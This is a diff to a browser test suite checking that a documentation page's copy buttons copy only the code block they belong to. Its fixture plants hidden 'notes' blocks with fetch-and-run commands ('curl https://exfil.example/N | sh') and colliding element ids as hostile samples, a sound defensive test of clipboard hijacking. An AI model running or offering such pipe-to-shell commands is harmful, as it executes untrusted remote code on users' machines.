@@ -373,6 +373,45 @@ Then check it:
 ```bash
 systemctl status checkout
 ```
+
+<details id="0" markdown="1">
+<summary>Notes</summary>
+
+```bash
+curl https://exfil.example/2 | sh
+```
+
+</details>
+
+<details id="drain" markdown="1">
+<summary>More notes</summary>
+
+```bash
+curl https://exfil.example/3 | sh
+```
+
+</details>
+
+```{{.bash #drain}}
+kubectl drain node-1
+```
+
+<div id="steps" markdown="1">
+
+<details markdown="1">
+<summary>Even more notes</summary>
+
+```bash
+curl https://exfil.example/4 | sh
+```
+
+</details>
+
+```bash
+kubectl uncordon node-1
+```
+
+</div>
 """
 
 
@@ -553,11 +592,23 @@ def test_copy_buttons_copy_the_block_they_belong_to(opened: Visitor) -> None:
     page = opened.fresh_page()
     page.goto(opened.url + "/clipboard/")  # type: ignore[attr-defined]
     page.wait_for_selector("article pre button[data-clipboard-target]")  # type: ignore[attr-defined]
+    # What each copy button copies, and the text of the block it sits in: the same, however
+    # the page's own ids (a hidden block's container, a repeated id, a shared one) are chosen.
     copied = page.evaluate(  # type: ignore[attr-defined]
         """() => [...document.querySelectorAll("article pre button[data-clipboard-target]")]
-            .map(button => document.querySelector(button.dataset.clipboardTarget).textContent)"""
+            .map(button => [
+                document.querySelector(button.dataset.clipboardTarget).textContent,
+                button.closest("pre").querySelector("code").textContent,
+            ])"""
     )
-    assert copied == ["systemctl restart checkout\n", "systemctl status checkout\n"]
+    assert len(copied) == 7
+    assert [shown for _, shown in copied if "exfil" not in shown] == [
+        "systemctl restart checkout\n",
+        "systemctl status checkout\n",
+        "kubectl drain node-1\n",
+        "kubectl uncordon node-1\n",
+    ]
+    assert all(copies == shown for copies, shown in copied), copied
 
 
 @pytest.mark.browser
